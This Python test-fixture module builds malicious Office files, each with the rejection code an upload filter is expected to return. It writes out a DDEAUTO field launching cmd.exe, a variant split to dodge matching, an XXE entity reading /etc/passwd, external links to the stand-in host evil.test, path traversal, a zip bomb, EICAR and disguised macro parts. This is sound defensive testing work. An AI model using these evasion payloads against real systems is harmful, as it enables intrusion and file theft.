"""Office files that act: good ones of python-docx, openpyxl and python-pptx, with a part put in or changed."""

import struct
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import documents
from sample import Sample

DENIED, MISMATCH, ARCHIVE, INFECTED = (
    "upload.content_denied",
    "upload.type_mismatch",
    "upload.archive_denied",
    "upload.infected",
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MAKERS = {"docx": documents.word, "xlsx": documents.sheet, "pptx": documents.slides}
FOLDERS = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}

Members = dict[str, bytes]


def rewritten(kind: str, path: Path, edit: Callable[[Members, str], None]) -> None:
    """A good file of this kind, its members edited."""
    MAKERS[kind](path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    edit(members, kind)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def replace(members: Members, name: str, old: str, new: str) -> None:
    text = members[name].decode()
    assert old in text, f"{name} has no {old}"
    members[name] = text.replace(old, new, 1).encode()


def typed(members: Members, part: str, kind: str) -> None:
    """Tells the content type of a part."""
    replace(members, "[Content_Types].xml", "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')


def related(members: Members, kind: str, relation: str, target: str, mode: str = "") -> None:
    """Relates the main part to a target."""
    folder, name = MAIN[kind].split("/")
    external = ' TargetMode="External"' if mode else ""
    link = f'<Relationship Id="rIdX" Type="{relation}" Target="{target}"{external}/>'
    replace(members, f"{folder}/_rels/{name}.rels", "</Relationships>", f"{link}</Relationships>")


def macro(members: Members, kind: str) -> None:
    """As a program saves a macro, under the name that a document without one has."""
    part = f"{FOLDERS[kind]}/vbaProject.bin"
    members[part] = OLE
    typed(members, part, "application/vnd.ms-office.vbaProject")
    related(members, kind, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")


def macro_renamed(members: Members, kind: str) -> None:
    """The macro under another name: its type and its relation say what it is."""
    part = f"{FOLDERS[kind]}/theme.bin"
    members[part] = OLE
    typed(members, part, "application/vnd.ms-office.vbaProject")
    related(members, kind, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme.bin")


def macro_related(members: Members, kind: str) -> None:
    """The same, said by the relation alone."""
    members[f"{FOLDERS[kind]}/theme.bin"] = OLE
    related(members, kind, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme.bin")


MACRO_TYPES = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}
PLAIN_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}


def macro_enabled(members: Members, kind: str) -> None:
    """A file that may have macros, by its main part's type."""
    replace(members, "[Content_Types].xml", PLAIN_TYPES[kind], MACRO_TYPES[kind])


def template(members: Members, kind: str) -> None:
    """A template from elsewhere, with the macros in it."""
    relation = f"{RELATION}/attachedTemplate"
    members["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{relation}" Target="https://evil.test/a.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def outside(members: Members, kind: str, relation: str) -> None:
    related(members, kind, f"{RELATION}/{relation}", "https://evil.test/a", "External")


def ole(members: Members, kind: str) -> None:
    """A packed object, which a double click opens."""
    members[f"{FOLDERS[kind]}/embeddings/oleObject1.bin"] = OLE
    related(members, kind, f"{RELATION}/oleObject", "embeddings/oleObject1.bin")


def active_x(members: Members, kind: str) -> None:
    members[f"{FOLDERS[kind]}/activeX/activeX1.bin"] = OLE
    related(
        members,
        kind,
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX/activeX1.bin",
    )


def dde(members: Members, kind: str) -> None:
    field = '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText>'
    replace(members, "word/document.xml", "<w:body>", f"<w:body><w:p><w:r>{field}</w:r></w:p>")


def dde_divided(members: Members, kind: str) -> None:
    """The word in two pieces of text, as editors divide them."""
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DDE", "AUTO ", "cmd"))
    replace(members, "word/document.xml", "<w:body>", f"<w:body><w:p>{pieces}</w:p>")


def entity(members: Members, kind: str) -> None:
    """A document type of its own in a list of relations."""
    name = "_rels/.rels"
    declared = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    members[name] = (declared + bare(members[name])).encode()


def bare(content: bytes) -> str:
    """A part without its XML declaration, which not every program writes."""
    text = content.decode()
    return text[text.index("?>") + 2 :] if text.startswith("<?xml") else text


def wide(members: Members, kind: str) -> None:
    """A list of relations in UTF-16, so that no search for letters finds anything."""
    outside(members, kind, "oleObject")
    folder, part = MAIN[kind].split("/")
    name = f"{folder}/_rels/{part}.rels"
    members[name] = ('<?xml version="1.0" encoding="UTF-16"?>' + bare(members[name])).encode("utf-16")


def eicar(members: Members, kind: str) -> None:
    members[f"{FOLDERS[kind]}/media/image9.png"] = EICAR


EICAR = b"".join([b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!$H+H*"])


def untyped(members: Members, kind: str) -> None:
    del members["[Content_Types].xml"]


def climbing(members: Members, kind: str) -> None:
    members[f"{FOLDERS[kind]}/../../evil.txt"] = b"outside"


def bomb(members: Members, kind: str) -> None:
    members[f"{FOLDERS[kind]}/media/image9.bmp"] = bytes(120 << 20)


def xls_macro(path: Path) -> None:
    """A workbook with a storage of macros beside its stream, in the free entry that xlwt leaves in the directory."""
    documents.xls(path)
    data = bytearray(path.read_bytes())
    (first,) = struct.unpack_from("<I", data, 0x30)
    directory = 512 * (first + 1)
    book, free = directory + 128, directory + 256
    name = "_VBA_PROJECT_CUR".encode("utf-16-le")
    data[free : free + 64] = name.ljust(64, b"\0")
    struct.pack_into("<HBBIII", data, free + 64, len(name) + 2, 1, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<I", data, book + 72, 2)
    path.write_bytes(data)


def refused(name: str, kind: str, edit: Callable[[Members, str], None], code: str = DENIED) -> Sample:
    return Sample(f"evil-{kind}-{name}", kind, lambda path: rewritten(kind, path, edit), code)


EVERY = {
    "macro": macro,
    "macro-renamed": macro_renamed,
    "macro-related": macro_related,
    "macro-enabled": macro_enabled,
    "ole-object": ole,
    "active-x": active_x,
    "entity": entity,
    "wide-relations": wide,
}
OUTSIDE = {"docx": ["oleObject", "frame", "subDocument"], "xlsx": ["externalLink", "oleObject"], "pptx": ["oleObject"]}

SAMPLES = [
    *(refused(name, kind, edit) for kind in MAKERS for name, edit in EVERY.items()),
    *(
        refused(f"outside-{relation}", kind, partial(outside, relation=relation))
        for kind, relations in OUTSIDE.items()
        for relation in relations
    ),
    refused("template", "docx", template),
    refused("dde", "docx", dde),
    refused("dde-divided", "docx", dde_divided),
    Sample("evil-xls-macro", "xls", xls_macro, DENIED),
    *(refused("untyped", kind, untyped, MISMATCH) for kind in MAKERS),
    *(refused("climbing", kind, climbing) for kind in MAKERS),
    *(refused("eicar", kind, eicar, INFECTED) for kind in MAKERS),
    *(refused("bomb", kind, bomb, ARCHIVE) for kind in MAKERS),
]
